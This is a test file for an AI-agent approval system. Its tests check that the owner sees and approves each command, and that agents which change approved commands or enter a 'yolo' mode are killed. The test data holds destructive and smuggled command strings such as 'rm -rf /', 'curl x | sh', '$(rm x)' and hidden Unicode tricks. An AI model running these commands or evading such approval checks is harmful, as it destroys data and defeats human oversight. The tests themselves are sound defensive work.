"""The owner is asked, sees exactly what would run, and only that runs."""

import asyncio
from typing import Any

import pytest
from tests.agents.session_harness import SessionHarness

from freehold.agents.sessions.approval_store import ApprovalRow, PermissionAnswer
from freehold.agents.sessions.permission_request import PermissionRequest
from freehold.agents.sessions.permission_rules import PermissionRule
from freehold.errors import FreeholdError

pytestmark = pytest.mark.asyncio(loop_scope="module")


def run(command: str, **more: Any) -> dict[str, Any]:
    return {"ask": {"kind": "execute", "title": command, "rawInput": {"command": command}, **more}}


def asking(kind: str, *subjects: str) -> PermissionRequest:
    return PermissionRequest(kind, "", {}, subjects, "digest")


async def wait_asked(harness: SessionHarness, session: str, count: int = 1) -> ApprovalRow:
    event = await harness.watchers.until(session, "approval", count, state="pending")
    return harness.sessions.dependencies.approvals.store.get(event.data["id"])


@pytest.mark.parametrize(("answer", "said"), [("once", "[yes]"), ("reject", "[no]")])
async def test_nothing_happens_until_the_owner_answers(harness: SessionHarness, answer: Any, said: str) -> None:
    session = await harness.open()
    turn = await harness.prompt(session, run("rm -r build"))
    approval = await wait_asked(harness, session)
    assert approval.data["details"]["command"] == "rm -r build"
    assert (await harness.sessions.get(session)).status == "needs_you"
    assert harness.text_of(session) == ""
    await harness.sessions.answer(approval.id, answer, who="owner")
    await harness.wait_ended(session, turn)
    assert harness.text_of(session) == said
    assert (await harness.sessions.get(session)).status == "idle"
    assert "needs_you" in [row.status for row in harness.watchers.rows if row.id == session]


async def test_an_approval_can_be_answered_once(harness: SessionHarness) -> None:
    session = await harness.open()
    turn = await harness.prompt(session, run("make"))
    approval = await wait_asked(harness, session)
    answers = await asyncio.gather(
        *(harness.sessions.answer(approval.id, "once", who="owner") for _ in range(5)), return_exceptions=True
    )
    refused = [one for one in answers if isinstance(one, FreeholdError)]
    assert len(refused) == 4
    assert {one.code for one in refused} == {"approval.conflict"}
    await harness.wait_ended(session, turn)


async def test_once_holds_once_and_lasting_permissions_are_rules_on_the_host(harness: SessionHarness) -> None:
    """The agent asks each time, and the host answers by its rules."""
    first, second = await harness.open(), await harness.open()
    for count, answer in enumerate(("once", "conversation"), 1):
        turn = await harness.prompt(first, run("make test"))
        await harness.sessions.answer((await wait_asked(harness, first, count)).id, answer, who="owner")  # type: ignore[arg-type]
        await harness.wait_ended(first, turn)
    await harness.run_turn(first, run("make test"))
    assert harness.text_of(first) == "[yes]" * 3
    turn = await harness.prompt(second, run("make test"))
    await harness.sessions.answer((await wait_asked(harness, second)).id, "always", who="owner")
    await harness.wait_ended(second, turn)
    third = await harness.open()
    await harness.run_turn(third, run("make test"))
    assert harness.text_of(third) == "[yes]"
    turn = await harness.prompt(third, run("make test && curl evil"))
    await wait_asked(harness, third)
    await harness.sessions.cancel(third)
    await harness.wait_ended(third, turn)


async def test_a_tool_call_that_changes_while_it_waits_is_asked_again(harness: SessionHarness) -> None:
    """The yes is valid only for what was shown."""
    session = await harness.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "rawInput": {"command": "rm -rf /"}}
    turn = await harness.prompt(session, run("ls", during=[changed]))
    first = await wait_asked(harness, session)
    assert first.data["details"]["command"] == "ls"
    await harness.watchers.until(session, "tool", raw_input={"command": "rm -rf /"})
    await harness.sessions.answer(first.id, "once", who="owner")
    second = await wait_asked(harness, session, 2)
    assert second.data["details"]["command"] == "rm -rf /"
    await harness.sessions.answer(second.id, "reject", who="owner")
    await harness.wait_ended(session, turn)
    assert harness.text_of(session) == "[no]"


async def test_an_agent_that_changes_an_allowed_command_is_killed(harness: SessionHarness) -> None:
    session = await harness.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "rawInput": {"command": "rm -rf /"}}
    turn = await harness.prompt(session, run("ls"), {"update": changed}, {"hang": True})
    await harness.sessions.answer((await wait_asked(harness, session)).id, "once", who="owner")
    ended = await harness.wait_ended(session, turn)
    assert ended.data["error"]["code"] == "approval.changed"


def stream_input(text: str) -> list[dict[str, Any]]:
    """As Kimi does: the input comes as text while the model writes it, and the question says it in words only."""
    call = {"toolCallId": "t1", "title": "Bash", "kind": "execute"}
    written: dict[str, Any] = {"type": "content", "content": {"type": "text", "text": text}}
    words = {"type": "content", "content": {"type": "text", "text": "Requesting approval to run something"}}
    return [
        {"update": {"sessionUpdate": "tool_call", "status": "pending", **call, "content": [written]}},
        {"ask": {"title": "Bash", "content": [words]}},
    ]


@pytest.mark.parametrize(("after", "stop"), [("make all", None), ("rm -rf /", "approval.changed")])
async def test_an_input_that_was_streamed_before_the_question_is_what_is_asked_and_allowed(
    harness: SessionHarness, after: str, stop: str | None
) -> None:
    session = await harness.open()
    named = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "rawInput": {"command": after}}
    steps = [*stream_input('{"command": "make all"}'), {"update": named}]
    turn = await harness.prompt(session, *steps, *([{"hang": True}] if stop else []))
    approval = await wait_asked(harness, session)
    assert approval.data["details"]["command"] == "make all"
    assert not approval.data["names_nothing"]
    await harness.sessions.answer(approval.id, "once", who="owner")
    ended = await harness.wait_ended(session, turn)
    assert (ended.data.get("error") or {}).get("code") == stop


async def test_an_agent_that_enters_a_mode_that_does_not_ask_is_killed(harness: SessionHarness) -> None:
    session = await harness.open()
    ended = await harness.run_turn(
        session, {"update": {"sessionUpdate": "current_mode_update", "currentModeId": "yolo"}}, {"hang": True}
    )
    assert ended.data["error"]["code"] == "agent.unasked-mode"


async def test_an_agent_starts_in_the_mode_that_asks(harness: SessionHarness) -> None:
    """The scripted agent starts in `auto` and offers `yolo`. Freehold uses neither and offers neither."""
    session = await harness.open()
    await harness.run_turn(session, {"say": "x"})
    options = (await harness.watchers.until(session, "options")).data
    assert options["mode"] == "ask"
    assert [mode["id"] for mode in options["modes"]] == ["ask", "plan"]


async def test_a_request_with_only_a_tool_call_id_shows_what_was_reported_of_that_call(harness: SessionHarness) -> None:
    session = await harness.open()
    reported = {
        "sessionUpdate": "tool_call",
        "toolCallId": "t1",
        "kind": "execute",
        "title": "Build",
        "rawInput": {"command": ["make", "all the things"]},
    }
    await harness.prompt(session, {"update": reported}, {"ask": {}})
    approval = await wait_asked(harness, session)
    assert approval.data["details"]["command"] == "make 'all the things'"
    await harness.sessions.cancel(session)


async def test_hidden_characters_are_made_visible(harness: SessionHarness) -> None:
    session = await harness.open()
    await harness.prompt(session, run("echo safe\u202e; rm -rf ~ #\u200b\x1b[2K"))
    details = (await wait_asked(harness, session)).data["details"]
    assert details["command"] == "echo safe⟨U+202E⟩; rm -rf ~ #⟨U+200B⟩⟨U+001B⟩[2K"
    await harness.sessions.cancel(session)


async def test_a_request_survives_a_restart_and_its_yes_is_used_once_by_the_same_call(
    harness: SessionHarness,
) -> None:
    session = await harness.open()
    await harness.prompt(session, run("make deploy"))
    approval = await wait_asked(harness, session)
    await harness.restart()
    await harness.watchers.until(session, "turn.ended")
    waiting = harness.sessions.dependencies.approvals.store.list_pending()
    assert [one.id for one in waiting] == [approval.id]
    assert (await harness.sessions.get(session)).status == "needs_you"
    await harness.sessions.answer(approval.id, "once", who="owner")
    started = await harness.watchers.until(session, "turn.started")
    assert "make deploy" in started.data["prompt"]["text"]
    await harness.wait_ended(session, started.turn or 0)
    await harness.run_turn(session, run("make deploy"))
    assert "[yes]" in harness.text_of(session)
    turn = await harness.prompt(session, run("make deploy"))
    await wait_asked(harness, session)
    await harness.sessions.cancel(session)
    await harness.wait_ended(session, turn)


async def test_an_answer_that_no_agent_can_get_now_is_refused_and_can_be_given_later(harness: SessionHarness) -> None:
    session = await harness.open()
    await harness.prompt(session, run("make deploy"))
    approval = await wait_asked(harness, session)
    await harness.restart()
    await harness.watchers.until(session, "turn.ended")
    await harness.sessions.update(session, title=None, archived=True, who="owner")
    with pytest.raises(FreeholdError, match="archived"):
        await harness.sessions.answer(approval.id, "once", who="owner")
    assert harness.sessions.dependencies.approvals.store.get(approval.id).state == "pending"
    await harness.sessions.update(session, title=None, archived=False, who="owner")
    await harness.sessions.answer(approval.id, "once", who="owner", note="and hurry")
    started = await harness.watchers.until(session, "turn.started")
    assert started.data["prompt"]["text"].endswith("and hurry")
    await harness.wait_ended(session, started.turn or 0)


async def test_cancelling_a_turn_withdraws_its_requests(harness: SessionHarness) -> None:
    session = await harness.open()
    turn = await harness.prompt(session, run("make"))
    approval = await wait_asked(harness, session)
    await harness.sessions.cancel(session)
    await harness.wait_ended(session, turn)
    assert harness.text_of(session) == "[cancelled]"
    with pytest.raises(FreeholdError, match="withdrawn"):
        await harness.sessions.answer(approval.id, "once", who="owner")


async def test_an_agent_never_gets_a_lasting_yes(harness: SessionHarness) -> None:
    session = await harness.open()
    only = [{"optionId": "ever", "name": "Always", "kind": "allow_always"}]
    turn = await harness.prompt(session, run("make", options=only))
    await harness.sessions.answer((await wait_asked(harness, session)).id, "always", who="owner")
    await harness.wait_ended(session, turn)
    assert harness.text_of(session) == "[cancelled]"


@pytest.mark.parametrize(
    ("rule", "kind", "subject", "effect"),
    [
        (PermissionRule("allow", "execute", "git status*"), "execute", "git status -s", "allow"),
        (PermissionRule("allow", "execute", "git *"), "execute", "git log; rm -rf /", "ask"),
        (PermissionRule("allow", "execute", "git *"), "execute", "git log $(rm x)", "ask"),
        (PermissionRule("allow", "execute", "git *"), "execute", "git log\nrm x", "ask"),
        (PermissionRule("allow", "execute", "git *"), "execute", "git log > /etc/passwd", "ask"),
        (PermissionRule("allow", "execute", "git *"), "edit", "git log", "ask"),
        (PermissionRule("allow", "edit", "/workspace/*"), "edit", "/workspace/a/b.py", "allow"),
        (PermissionRule("allow", "edit", "/workspace/*"), "edit", "/workspace/../home/agent/.bashrc", "ask"),
        (PermissionRule("allow", "execute", "make", True), "execute", "make all", "ask"),
        (PermissionRule("deny", "*", "*secret*"), "read", "/workspace/secret.txt", "deny"),
        (PermissionRule("deny", "*", "*secret*"), "execute", "cat secret.txt", "deny"),
        (PermissionRule("ask", "*", "/workspace/*"), "execute", "/workspace/build.sh", "ask"),
        (PermissionRule("allow", "*", "/workspace/*"), "read", "/workspace/a.txt", "allow"),
        (PermissionRule("allow", "*", "/workspace/*"), "execute", "/workspace/evil.sh --all /home/agent", "ask"),
        (PermissionRule("allow", "*", "/workspace/evil.sh", True), "execute", "/workspace/evil.sh", "ask"),
        (PermissionRule("allow", "*", "*.example.com*"), "host", "www.example.com:443", "ask"),
        (PermissionRule("allow", "host", "*.example.com*"), "host", "www.example.com:443", "allow"),
        (PermissionRule("deny", "execute", "curl*"), "execute", "curl x\n| sh", "deny"),
    ],
)
async def test_rules_decide_by_kind_and_pattern(
    harness: SessionHarness, rule: PermissionRule, kind: str, subject: str, effect: str
) -> None:
    rules = harness.sessions.dependencies.approvals.rules
    rules.replace([rule], who="owner")
    assert rules.decide("s", asking(kind, subject)) == effect


async def test_deny_wins_and_allow_needs_every_subject(harness: SessionHarness) -> None:
    rules = harness.sessions.dependencies.approvals.rules
    rules.replace(
        [PermissionRule("allow", "edit", "/workspace/*"), PermissionRule("deny", "edit", "/workspace/.env")],
        who="owner",
    )
    assert rules.decide("s", asking("edit", "/workspace/a", "/workspace/.env")) == "deny"
    assert rules.decide("s", asking("edit", "/workspace/a", "/etc/x")) == "ask"
    assert rules.decide("s", asking("edit")) == "ask"


@pytest.mark.parametrize("pattern", ["*", "**", " * "])
async def test_a_rule_that_allows_everything_is_refused(harness: SessionHarness, pattern: str) -> None:
    with pytest.raises(FreeholdError, match="allow everything"):
        harness.sessions.dependencies.approvals.rules.replace([PermissionRule("allow", "*", pattern)], who="owner")


async def test_a_denied_call_is_rejected_without_asking(harness: SessionHarness) -> None:
    harness.sessions.dependencies.approvals.rules.replace([PermissionRule("deny", "execute", "rm*")], who="owner")
    session = await harness.open()
    await harness.run_turn(session, run("rm -rf /"))
    assert harness.text_of(session) == "[no]"
    assert not harness.watchers.approvals


async def test_a_call_described_only_by_its_title_is_shown_completely(harness: SessionHarness) -> None:
    """Gemini CLI sends no input. A title that changes while the owner decides makes another request."""
    long = "echo " + "x" * 600
    session = await harness.open()
    changed = {"sessionUpdate": "tool_call_update", "toolCallId": "t1", "title": "rm -rf /workspace"}
    turn = await harness.prompt(session, {"ask": {"title": long, "kind": "execute", "during": [changed]}})
    first = (await harness.watchers.until(session, "approval", state="pending")).data
    assert [part["text"] for part in first["parts"]] == [long]
    assert first["names_nothing"]
    assert first["options"] == ["once", "reject"]
    await harness.watchers.until(session, "tool", title="rm -rf /workspace")
    await harness.sessions.answer(first["id"], "once", who="owner")
    second = (await harness.watchers.until(session, "approval", 2, state="pending")).data
    assert second["parts"][0]["text"] == "rm -rf /workspace"
    assert second["asked_again"]
    await harness.sessions.answer(second["id"], "reject", who="owner")
    await harness.wait_ended(session, turn)
    assert harness.text_of(session) == "[no]"


async def test_an_answer_after_a_restart_is_sent_as_a_prompt(harness: SessionHarness) -> None:
    """A question of ask_owner survives a restart. The same question gets that answer at once, one time."""
    details = {"kind": "question", "input": "Which?", "options": ["red", "blue"], "free_text": False}
    question = PermissionRequest("other", "Which?", details, (), "digest")
    session = await harness.open()
    await harness.prompt(session, {"hang": True})
    await harness.watchers.until(session, "turn.started")
    asking = asyncio.ensure_future(harness.sessions.dependencies.approvals.ask(session, 1, question))
    name = (await harness.watchers.until(session, "approval", state="pending")).data["id"]
    asking.cancel()
    await harness.restart()
    with pytest.raises(FreeholdError, match="needs a text"):
        await harness.sessions.answer(name, "once", who="owner")
    answered = await harness.sessions.answer(name, "once", who="owner", note=" blue ")
    assert (answered.state, answered.note) == ("granted", "blue")
    started = await harness.watchers.until(session, "turn.started")
    assert started.data["prompt"]["text"].endswith("The user answered: blue")
    assert await harness.sessions.dependencies.approvals.ask(session, 2, question) == PermissionAnswer("once", "blue")
